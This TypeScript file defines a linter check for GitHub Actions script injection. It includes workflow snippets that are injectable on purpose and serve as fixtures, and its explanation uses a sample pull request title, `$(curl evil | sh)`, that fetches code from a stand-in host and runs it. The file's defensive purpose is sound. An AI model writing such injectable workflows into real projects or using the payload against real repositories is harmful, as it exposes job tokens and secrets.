import type { Answer, Fix } from "../../../domain/finding/finding.ts";
import type { Expression } from "../../../domain/workflow/expression/expressions-in.ts";
import { expressionsIn } from "../../../domain/workflow/expression/expressions-in.ts";
import { flowingContexts } from "../../../domain/workflow/expression/walk-expression.ts";
import { liftToEnv } from "../../../domain/workflow/fix/lift-to-env.ts";
import { type Code, codeOf } from "../../../domain/workflow/injection/code-inputs.ts";
import { gradeSource } from "../../../domain/workflow/injection/grade-source.ts";
import { type Origin, sourceOf } from "../../../domain/workflow/injection/origin.ts";
import type { Step } from "../../../domain/workflow/model.ts";
import { defineCheck } from "../../define-check.ts";

/** Titles and names are one word to their script; an input may be meant as several, which quotes would join. */
const ONE_WORD = new Set<Origin>(["event", "branch", "triager"]);

function fixFor(step: Step, { text }: Code, expression: Expression): readonly Fix[] {
  const { expr, from, to } = expression;
  const edits = liftToEnv(step, { script: text, stretch: expression });
  if (edits === undefined || expr === undefined) return [];
  const isQuoted = /["']/.test(text.text[from - 1] ?? "") && /["']/.test(text.text[to] ?? "");
  const isOneWord =
    expr.kind === "context" && (isQuoted || ONE_WORD.has(sourceOf(expr, step).origin));
  const safe = isOneWord && text === step.run;
  return [{ title: "Hand the value over as a variable", safe, edits }];
}

function* inspect(step: Step, { text, what }: Code, expression: Expression): Generator<Answer> {
  const { expr, from, to, error } = expression;
  if (expr === undefined) {
    yield { needs: `an expression that can be parsed: ${error}`, at: text.at(from, to) };
    return;
  }
  let clean = true;
  for (const context of flowingContexts(expr)) {
    const grade = gradeSource(sourceOf(context, step), step);
    if (grade === undefined) continue;
    clean = false;
    const { severity, confidence, because } = grade;
    const name = text.text.slice(context.from, context.to);
    const message = `\`${name}\` is pasted into ${what}: ${because}`;
    // Most outputs of steps are versions and paths; nobody mends them one by one.
    const fixes = severity === "info" ? [] : fixFor(step, { text, what }, expression);
    yield { message, at: text.at(context.from, context.to), severity, confidence, fixes };
  }
  if (clean)
    yield {
      message: `an expression is pasted into ${what}; nobody can write code into this one today`,
      // Hardly anybody asks for these.
      get at() {
        return text.at(expr.from, expr.to);
      },
      severity: "low",
      persona: "pedantic",
    };
}

function* look(step: Step, codes: readonly Code[]): Generator<Answer> {
  for (const code of codes)
    for (const expression of expressionsIn(code.text)) yield* inspect(step, code, expression);
}

export default defineCheck({
  id: "script-injection",
  title: "Untrusted text becomes code",
  severity: "high",
  aliases: ["zizmor:template-injection"],
  why: "The runner pastes the value of an expression into the script before the shell reads it. A pull request titled `$(curl evil | sh)` is then not printed but run, with the job's token and secrets.",
  fix: 'Hand the value over as a variable: `env: TITLE: ${{ … }}` on the step and `"$TITLE"` in the script.',

  onlyWith: ["${{"],

  step(step) {
    const codes = codeOf(step);
    return codes.length === 0 ? [] : look(step, codes);
  },

  examples: {
    bad: [
      {
        title: "a title in a workflow that anybody starts with the repository's secrets",
        yaml: `
          on: pull_request_target
          permissions:
            contents: write
          jobs:
            greet:
              runs-on: ubuntu-latest
              steps:
                - run: |
                    echo hello
                    echo "\${{ github.event.pull_request.title }}"
                    #         ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ critical: may write \`contents\`
        `,
      },
      {
        title: "the name of a fork's branch, with a token that can only read",
        yaml: `
          on: [push, pull_request]
          jobs:
            build:
              runs-on: ubuntu-latest
              steps:
                - run: git checkout \${{ github.head_ref || github.ref_name }}
                #                       ^^^^^^^^^^^^^^^ high: anybody can write it on \`pull_request\`
                #                                          ^^^^^^^^^^^^^^^ medium: chooses its name
        `,
      },
      {
        title: "a comment that reaches a script through a variable of the workflow",
        yaml: `
          on: issue_comment
          env:
            COMMENT: \${{ github.event.comment.body }}
          jobs:
            reply:
              permissions: {}
              runs-on: ubuntu-latest
              steps:
                - uses: actions/github-script@ed597411d8f924073f98dfc5c65a23a2325f34cd
                  with:
                    script: core.info("\${{ env.COMMENT }}")
                    #                      ^^^^^^^^^^^ high: filled with \`github.event.comment.body\`
        `,
      },
      {
        title: "an input of a composite action",
        yaml: `
          inputs:
            version:
              required: true
          runs:
            using: composite
            steps:
              - run: ./build.sh \${{ inputs.version }}
              #                     ^^^^^^^^^^^^^^ high: whoever uses this action
                shell: bash
        `,
      },
      {
        title: "the whole event",
        yaml: `
          on: issues
          jobs:
            log:
              permissions:
                contents: read
              runs-on: ubuntu-latest
              steps:
                - run: echo '\${{ toJSON(github.event) }}'
                #                       ^^^^^^^^^^^^ high: anybody can write it on \`issues\`
        `,
      },
      {
        title: "a text typed into the form, and one that the run fills in",
        yaml: `
          on:
            workflow_dispatch:
              inputs:
                version:
                  type: string
          jobs:
            build:
              runs-on: ubuntu-latest
              steps:
                - run: echo \${{ inputs.version }} \${{ steps.x.outputs.y }}
                #               ^^^^^^^^^^^^^^ medium: whoever may start the workflow
                #                                     ^^^^^^^^^^^^^^^^^ info: an earlier step
        `,
      },
    ],
    good: [
      {
        title: "the title as a variable",
        yaml: `
          on: pull_request_target
          jobs:
            greet:
              runs-on: ubuntu-latest
              steps:
                - run: echo "$TITLE"
                  env:
                    TITLE: \${{ github.event.pull_request.title }}
        `,
      },
      {
        title: "an input of an action that does not run it",
        yaml: `
          on: pull_request_target
          jobs:
            label:
              runs-on: ubuntu-latest
              steps:
                - uses: org/label@ed597411d8f924073f98dfc5c65a23a2325f34cd
                  with:
                    title: \${{ github.event.pull_request.title }}
        `,
      },
    ],
  },
});
